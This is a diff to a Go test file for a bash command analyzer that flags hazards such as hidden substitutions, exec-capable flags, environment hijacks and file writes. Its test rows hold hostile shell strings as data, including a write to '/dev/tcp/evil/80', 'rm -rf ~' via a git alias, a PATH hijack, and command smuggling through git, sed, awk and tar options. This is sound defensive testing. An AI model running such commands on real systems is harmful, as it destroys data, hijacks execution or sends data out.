@@ -5,6 +5,8 @@ import (
 	"slices"
 	"strings"
 	"testing"
+
+	"mvdan.cc/sh/v3/syntax"
 )
 
 var testOpts = Options{Cwd: "/work/p", Home: "/home/u"}
@@ -26,7 +28,8 @@ func find(an *Analysis, text string) *Command {
 	return nil
 }
 
-// TestNesting checks that every kind of nesting yields its commands, in order.
+// TestNesting checks that every kind of nesting yields its commands, in the
+// order bash runs them (a substitution before the command it is part of).
 func TestNesting(t *testing.T) {
 	cases := []struct {
 		name, src string
@@ -37,27 +40,27 @@ func TestNesting(t *testing.T) {
 		{"semicolon newline background", "a; b\nc & d", []string{"a", "b", "c", "d"}},
 		{"subshell", "(cd /tmp && rm x)", []string{"cd /tmp", "rm x"}},
 		{"block", "{ rm x; }", []string{"rm x"}},
-		{"command substitution", "echo $(rm x)", []string{"echo " + Dyn, "rm x"}},
-		{"backticks", "echo `id`", []string{"echo " + Dyn, "id"}},
-		{"process substitution in", "diff <(a) <(b)", []string{"diff " + Dyn + " " + Dyn, "a", "b"}},
-		{"process substitution out", "tee >(sh)", []string{"tee " + Dyn, "sh"}},
-		{"arithmetic", "echo $(( $(rm x) + 1 ))", []string{"echo " + Dyn, "rm x"}},
-		{"parameter expansion default", "echo ${x:-$(rm x)}", []string{"echo " + Dyn, "rm x"}},
-		{"assignment value", "X=$(rm x) npm -v", []string{"npm -v", "rm x"}},
-		{"assignment only", "X=$(rm x)", []string{"rm x"}},
-		{"redirect target", "echo hi > $(rm x)", []string{"echo hi", "rm x"}},
-		{"unquoted heredoc", "cat <<EOF\n$(rm x)\nEOF", []string{"cat", "rm x"}},
+		{"command substitution", "echo $(rm x)", []string{"rm x", "echo " + Dyn}},
+		{"backticks", "echo `id`", []string{"id", "echo " + Dyn}},
+		{"process substitution in", "diff <(a) <(b)", []string{"a", "b", "diff " + Dyn + " " + Dyn}},
+		{"process substitution out", "tee >(sh)", []string{"sh", "tee " + Dyn}},
+		{"arithmetic", "echo $(( 1 + 2 )) $(rm x)", []string{"rm x", "echo " + Dyn + " " + Dyn}},
+		{"parameter expansion default", "echo ${x:-$(rm x)}", []string{"rm x", "echo " + Dyn}},
+		{"assignment value", "x=$(rm x) npm -v", []string{"rm x", "npm -v"}},
+		{"assignment only", "x=$(rm x)", []string{"rm x"}},
+		{"redirect target", "echo hi > $(rm x)", []string{"rm x", "echo hi"}},
+		{"unquoted heredoc", "cat <<EOF\n$(rm x)\nEOF", []string{"rm x", "cat"}},
 		{"quoted heredoc is data", "cat <<'EOF'\n$(rm x)\nEOF", []string{"cat"}},
 		{"test clause", "[[ -n $(rm x) ]]", []string{"rm x"}},
-		{"function body", "f() { rm x; }", []string{"rm x"}},
 		{"for loop", "for f in *.log; do rm \"$f\"; done", []string{"rm " + Dyn}},
 		{"while loop", "while true; do rm x; done", []string{"true", "rm x"}},
 		{"if", "if true; then rm x; else y; fi", []string{"true", "rm x", "y"}},
 		{"case", "case $x in a) rm x;; esac", []string{"rm x"}},
 		{"time keyword", "time rm x", []string{"rm x"}},
 		{"negation", "! rm x", []string{"rm x"}},
-		{"declare", "export A=$(rm x)", []string{"export A=" + Dyn, "rm x"}},
-		{"coproc", "coproc rm x", []string{"rm x"}},
+		{"declare", "export a=$(rm x)", []string{"rm x", "export a=" + Dyn}},
+		{"variable known from the line", "d=build; rm -rf $d", []string{"rm -rf build"}},
+		{"loop over a pattern", "for f in *.go; do wc -l \"$f\"; done", []string{"wc -l " + Dyn}},
 		{"line continuation", "ls \\\n&& rm x", []string{"ls", "rm x"}},
 		{"comment is not a command", "ls # ; rm x", []string{"ls"}},
 		{"hash inside a word", "echo a#b ; rm x", []string{"echo 'a#b'", "rm x"}},
@@ -103,7 +106,7 @@ func TestLiteralResolution(t *testing.T) {
 			t.Errorf("Analyze(%q): no command", c.src)
 			continue
 		}
-		if got := strings.Join(an.Commands[0].Argv, "|"); got != c.want {
+		if got := strings.Join(an.Commands[len(an.Commands)-1].Argv, "|"); got != c.want {
 			t.Errorf("Analyze(%q) argv = %q, want %q", c.src, got, c.want)
 		}
 	}
@@ -138,8 +141,9 @@ func TestDynamicNames(t *testing.T) {
 			t.Errorf("Analyze(%q): no command", c.src)
 			continue
 		}
-		if got := an.Commands[0].Dynamic != ""; got != c.dynamic {
-			t.Errorf("Analyze(%q).Commands[0].Dynamic = %q, want dynamic=%v", c.src, an.Commands[0].Dynamic, c.dynamic)
+		last := an.Commands[len(an.Commands)-1]
+		if got := last.Dynamic != ""; got != c.dynamic {
+			t.Errorf("Analyze(%q): %q Dynamic = %q, want dynamic=%v", c.src, last.Text, last.Dynamic, c.dynamic)
 		}
 	}
 }
@@ -167,7 +171,8 @@ func TestWrappers(t *testing.T) {
 		{"command -v rm", "", ""},
 		{"builtin eval 'rm x'", "rm x", "eval"},
 		{"exec -a name rm x", "rm x", "exec"},
-		{"xargs -n 1 -I {} rm {}", "rm {}", "xargs"},
+		{"xargs -n 1 -I {} rm {}", "rm " + Dyn, "xargs"},
+		{"xargs -n 1 rm", "rm " + Dyn, "xargs"},
 		{"stdbuf -oL rm x", "rm x", "stdbuf"},
 		{"watch -n1 rm x", "rm x", "watch"},
 		{"watch -x rm x", "rm x", "watch"},
@@ -179,9 +184,9 @@ func TestWrappers(t *testing.T) {
 		{"chroot /srv rm x", "rm x", "chroot"},
 		{"unbuffer rm x", "rm x", "unbuffer"},
 		{"busybox rm x", "rm x", "busybox"},
-		{"find . -exec rm {} \\;", "rm {}", "find -exec"},
-		{"find . -execdir rm {} +", "rm {}", "find -execdir"},
-		{"find . -ok rm {} \\;", "rm {}", "find -ok"},
+		{"find . -exec rm {} \\;", "rm " + Dyn, "find -exec"},
+		{"find . -execdir rm {} +", "rm " + Dyn, "find -execdir"},
+		{"find . -ok rm {} \\;", "rm " + Dyn, "find -ok"},
 		{"bash -c 'rm x'", "rm x", "bash -c"},
 		{"sh -ec 'rm x'", "rm x", "sh -c"},
 		{"bash -o pipefail -c 'rm x' name arg", "rm x", "bash -c"},
@@ -245,52 +250,140 @@ func TestNestedWrappers(t *testing.T) {
 	}
 }
 
-// TestHazards has one row per entry of the hazards table.
+// TestHazards checks that each command that can run code, write files or
+// change later commands beyond what its text suggests is reported as a
+// hazard or as not understood, never as plain.
 func TestHazards(t *testing.T) {
-	cases := []struct{ hazard, src string }{
+	cases := []struct{ want, src string }{
 		{"find -delete", "find . -name '*.py' -delete"},
-		{"find -exec", "find . -exec rm {} +"},
-		{"find writes a file", "find . -fprint /tmp/x"},
-		{"git config override", "git -c core.fsmonitor=id status"},
-		{"git --exec-path", "git --exec-path=/tmp status"},
-		{"git --output", "git log --output=/tmp/x"},
-		{"git external diff or textconv", "git diff --ext-diff"},
+		{"", "find . -fprint /tmp/x"}, // a write, judged by the Write rules
+		{"git -c", "git -c core.fsmonitor=id status"},
+		{"--exec-path", "git --exec-path=/tmp status"},
+		{"--output", "git log --output=/tmp/x"},
+		{"--output", "git log --out=/tmp/x"},
+		{"--ext-diff", "git diff --ext-diff"},
+		{"--exec", "git rebase --exe='touch x' main"},
 		{"git config write", "git config alias.x '!rm -rf ~'"},
 		{"git alias", "git alias x status"},
 		{"git runs a command", "git submodule foreach 'rm -rf .'"},
+		{"--upload-pack", "git clone --upload-pack='touch x' repo"},
+		{"-c", "git clone -c core.fsmonitor=x repo"},
+		{"--git-dir", "git --git-dir=evil status"},
 		{"sed -i", "sed -i s/a/b/ f"},
-		{"sed script executes or writes", "sed -n '1e id' f"},
-		{"awk executes or writes", `awk 'BEGIN{system("id")}'`},
+		{"in place", "sed --in-pl s/a/b/ f"},
+		{"sed script", "sed -n '1e id' f"},
+		{"sed script", "sed 's/a/b/w /tmp/x' f"},
+		{"sed script", "sed 'y/[/]/x' f"},
+		{"sed script", "sed --e='1e id' f"},
+		{"awk program uses system", `awk 'BEGIN{system("id")}'`},
+		{"awk program", `awk '/"/ { system("id") } # "'`},
+		{"awk program may redirect", `awk '{print > "/tmp/x"}'`},
+		{"awk program may redirect", `awk '{print "a;b" > "/tmp/x"}'`},
 		{"sort -o", "sort -o out in"},
-		{"rg runs a preprocessor", "rg -z needle"},
+		{"sort --output", "sort --out=out in"},
+		{"compress-program", "sort --compress-prog=sh in"},
+		{"rg -z", "rg -z needle"},
+		{"rg --pre", "rg --pre=sh needle"},
 		{"tree -o", "tree -o /tmp/x"},
-		{"base64 -o", "base64 -o out.bin in.txt"},
 		{"tar runs a program", "tar --to-command=sh -xf a.tar"},
+		{"tar runs a program", "tar --to-com=sh -xf a.tar"},
 		{"rsync runs a program", "rsync -e 'sh -c id' a b"},
 		{"curl writes a file", "curl -o ~/.bashrc https://x"},
 		{"time -o", "/usr/bin/time -o out ls"},
-		{"xargs", "xargs rm"},
 		{"alias", "alias ls='rm -rf x'"},
 		{"opaque exec wrapper", "strace -f rm x"},
 		{"interpreter code flag", "python3 -c 'print(1)'"},
-		{"unquoted glob for an exec-capable tool", "rg TODO *"},
-		{"array subscript evaluation", "printf -v 'a[$(id)]' x"},
+		{"unquoted pattern", "rg TODO *"},
+		{"unquoted pattern", "sort *"},
+		{"find", "find . -exec$IFS rm {} +"},
+		{"rm", "x=-exec; find . $x rm {} +"},
+		{"variable name", "printf -v 'a[$(id)]' x"},
 		{"extended glob", "ls *(e:'rm x':)"},
+		{"date -s", "date -s 2020-01-01"},
+		{"file -C", "file -C -m x"},
+		{"option", "ls --frobnicate"},
+		{"ambiguous option", "sort --c=x in"},
+		{"trap", "trap 'touch x' EXIT"},
+		{"mapfile -C", "mapfile -C 'touch x' -c 1 a < f"},
+		{"hash -p", "hash -p /bin/sh ls"},
 	}
-	covered := map[string]bool{}
 	for _, c := range cases {
-		covered[c.hazard] = true
 		an := Analyze(c.src, testOpts)
-		if len(an.Commands) == 0 || an.Commands[0].Hazard != c.hazard {
-			t.Errorf("Analyze(%q) hazard = %q, want %q", c.src, hazardsOf(an), c.hazard)
+		var got []string
+		found := c.want == ""
+		for _, cmd := range an.Commands {
+			why := cmd.Hazard + cmd.Dynamic
+			if c.want == "rm" && cmd.Argv[0] == "rm" {
+				found = true
+			}
+			got = append(got, why)
+			if c.want != "" && strings.Contains(why, c.want) {
+				found = true
+			}
+			if why != "" && cmd.Always != "" && !strings.Contains(why, "interpreter code flag") {
+				t.Errorf("Analyze(%q): %q has Always %q", c.src, cmd.Text, cmd.Always)
+			}
 		}
-		if len(an.Commands) > 0 && an.Commands[0].Always != "" && c.hazard != "interpreter code flag" {
-			t.Errorf("Analyze(%q) hazardous command has Always %q", c.src, an.Commands[0].Always)
+		if c.want != "" && strings.Contains(an.Unsafe, c.want) {
+			found = true
 		}
+		if !found {
+			t.Errorf("Analyze(%q) hazards %q (unsafe %q), want one naming %q", c.src, got, an.Unsafe, c.want)
+		}
+	}
+}
+
+// TestHazardTable has one row per entry of the second-line hazards table,
+// checked on the table itself (the first line usually answers first).
+func TestHazardTable(t *testing.T) {
+	cases := map[string]string{
+		"find -delete":                           "find . -delete",
+		"find writes a file":                     "find . -fls x",
+		"git config override":                    "git -c a=b status",
+		"git --exec-path":                        "git --exec-path=/x status",
+		"git --output":                           "git log --output=x",
+		"git external diff or textconv":          "git diff --ext-diff",
+		"git config write":                       "git config a b",
+		"git alias":                              "git alias x y",
+		"git runs a command":                     "git bisect run make",
+		"gsed -i":                                "gsed -i s/a/b/ f",
+		"gsed script executes or writes":         "gsed -n 1e f",
+		"sort -o":                                "sort -o x",
+		"rg runs a preprocessor":                 "rg --pre x y",
+		"tree -o":                                "tree -o x",
+		"base64 -o":                              "base64 -o x y",
+		"tar runs a program":                     "tar -I sh -xf a",
+		"rsync runs a program":                   "rsync -e sh a b",
+		"curl writes a file":                     "curl -o x y",
+		"time -o":                                "/usr/bin/time -o x ls",
+		"alias":                                  "alias a=b",
+		"opaque exec wrapper":                    "strace ls",
+		"interpreter code flag":                  "python -c x",
+		"unquoted glob for an exec-capable tool": "rg x *",
 	}
 	for _, h := range hazards {
-		if !covered[h.name] {
+		src, ok := cases[h.name]
+		if !ok {
 			t.Errorf("hazard %q has no test row", h.name)
+			continue
+		}
+		var fs []field
+		p := syntax.NewParser()
+		f, err := p.Parse(strings.NewReader(src), "")
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, w := range f.Stmts[0].Cmd.(*syntax.CallExpr).Args {
+			a := &analyzer{an: &Analysis{}, st: &state{}}
+			a.res = resolver{a: a}
+			fs = append(fs, a.res.single(w, ctxArgv))
+		}
+		argv := make([]string, len(fs))
+		for i := range fs {
+			argv[i] = fs[i].s
+		}
+		if got := hazardOf(fs, argv); got != h.name {
+			t.Errorf("hazardOf(%q) = %q, want %q", src, got, h.name)
 		}
 	}
 }
@@ -308,16 +401,23 @@ func TestNoHazard(t *testing.T) {
 	for _, src := range []string{
 		"git log -p -1", "git diff --no-index -- a b", "git config user.name", "git config --get user.name",
 		"git config --list", "git status", "sed -n '1,5p' f", "sed 's/a/b/g' f", "sed -n '/re/{p;q}' f",
-		"sed -E 's#[/]#x#' f", "sed --sandbox 'w x' f", "awk '{print $1}' f", "awk -F: '$3 > 100 {print $1}' f",
+		"sed -E 's#[/]#x#' f", "awk '{print $1}' f", "awk -F: '$3 > 100 {print $1}' f",
 		"awk '{ if (a || b) print (x > y) }' f", "sort -u f", "rg -i needle", "find . -name '*.go'",
 		"tar -xzf a.tgz", "rsync -av a b", "curl -s https://x", "python3 script.py", "node app.js",
-		"perl script.pl -e", "FOO=1 npm test", "GIT_AUTHOR_NAME=x git commit -m y", "cat *.txt",
-		"python -m pytest -c conf",
+		"perl script.pl -e", "CI=1 npm test", "GIT_AUTHOR_NAME=x git commit -m y", "cat *.txt",
+		"python -m pytest -c conf", "grep -n TODO *.go", "git --no-pager log", "git -P diff",
+		"find . -name '*.go' -exec grep -l TODO {} +", "git commit -m 'fix a[$(i)]'",
+		`[[ -n "$(git status --porcelain)" ]] && echo dirty`, `for ((i=0;i<3;i++)); do echo "$(date) $i"; done`,
+		`awk '{print > "/dev/stderr"}' f`, "sort --output-dir=x", "x=5; echo $((x + 1))",
+		"cd sub && ls", "git diff --exit-code", "git diff --text", "head -20 f", "grep -5 x f",
 	} {
 		an := Analyze(src, testOpts)
+		if an.Unsafe != "" && src != "sort --output-dir=x" {
+			t.Errorf("Analyze(%q) unsafe: %s", src, an.Unsafe)
+		}
 		for _, c := range an.Commands {
-			if c.Hazard != "" {
-				t.Errorf("Analyze(%q): %q has hazard %q", src, c.Text, c.Hazard)
+			if c.Hazard != "" || c.Dynamic != "" && src != "sort --output-dir=x" {
+				t.Errorf("Analyze(%q): %q has hazard %q, dynamic %q", src, c.Text, c.Hazard, c.Dynamic)
 			}
 		}
 	}
@@ -332,14 +432,25 @@ func TestDangerousEnv(t *testing.T) {
 	} {
 		an := Analyze(src, testOpts)
 		c := an.Commands[len(an.Commands)-1]
-		if !strings.HasPrefix(c.Hazard, "sets ") {
+		if !strings.HasPrefix(c.Hazard, "sets ") && !strings.HasPrefix(c.Hazard, "assignment to ") {
 			t.Errorf("Analyze(%q): %q hazard = %q, want an environment hazard", src, c.Text, c.Hazard)
 		}
 	}
 	if an := Analyze("PATH=/tmp/evil; ls", testOpts); an.Unsafe == "" {
 		t.Errorf("PATH assignment before a later command is not unsafe")
 	}
-	if an := Analyze("FOO=1; ls", testOpts); an.Unsafe != "" {
+	for _, src := range []string{"FOO=1; ls", "X=$(ls)", "export FOO=1", "declare 'PATH=/tmp'", "printf -v HOME x", "read PATH",
+		"BASH_CMDS[ls]=/bin/sh; ls", "BASH_ALIASES[ls]=x", "export 'GIT_CONFIG_COUNT=1'", "RIPGREP_CONFIG_PATH=x rg y"} {
+		an := Analyze(src, testOpts)
+		asks := an.Unsafe != ""
+		for _, c := range an.Commands {
+			asks = asks || c.Hazard != "" || c.Dynamic != ""
+		}
+		if !asks {
+			t.Errorf("Analyze(%q): an unknown upper-case name was set without asking", src)
+		}
+	}
+	if an := Analyze("foo=1; ls", testOpts); an.Unsafe != "" {
 		t.Errorf("harmless assignment is unsafe: %s", an.Unsafe)
 	}
 }
@@ -358,7 +469,13 @@ func TestWrites(t *testing.T) {
 		{"ls >&file", []Write{{">&", "/work/p/file", false}}},
 		{"ls > ~/.bashrc", []Write{{">", "/home/u/.bashrc", false}}},
 		{"ls > $F", []Write{{">", Dyn, true}}},
-		{"ls > /dev/tcp/evil/80", []Write{{">", "/dev/tcp/evil/80", false}}},
+		{"ls > /dev/tcp/evil/80", nil},
+		{"cd /tmp && ls > out", []Write{{">", "/tmp/out", false}}},
+		{"cd $D && ls > out", []Write{{">", "out", true}}},
+		{"cd /tmp; ls > out", []Write{{">", "out", true}}},
+		{"pushd /tmp && ls > out", []Write{{">", "/tmp/out", false}}},
+		{"(cd /tmp && ls) > out", []Write{{">", "/work/p/out", false}}},
+		{"touch a b", []Write{{"touch", "/work/p/a", false}, {"touch", "/work/p/b", false}}},
 		{"exec 3> /tmp/out", []Write{{">", "/tmp/out", false}}},
 		{"bash -c 'echo x > /etc/passwd'", []Write{{">", "/etc/passwd", false}}},
 		{"cat <<'EOF' > s.sh\nx\nEOF", []Write{{">", "/work/p/s.sh", false}}},
@@ -509,7 +626,18 @@ func TestAlwaysPattern(t *testing.T) {
 		{"find . -delete", ""},
 		{"eval x", "eval x"},
 		{"sudo rm x", "sudo rm x"},
-		{"xargs rm", ""},
+		{"xargs rm", "xargs rm"},
+		{"source x", "source x"},
+		{"rm -rf build", "rm -rf build"},
+		{"rm build.log", "rm *"},
+		{"ssh host uptime", "ssh host uptime"},
+		{"go run ./cmd/x", "go run ./cmd/x"},
+		{"cargo run --release", "cargo run --release"},
+		{"curl https://example.com", "curl https://example.com"},
+		{"export a=1", "export a=1"},
+		{"tar -czf a.tgz dir", "tar -czf a.tgz dir"},
+		{"zip -r a.zip dir", "zip -r a.zip dir"},
+		{"git push --force origin main", "git push --force origin main"},
 	}
 	for _, c := range cases {
 		an := Analyze(c.src, testOpts)
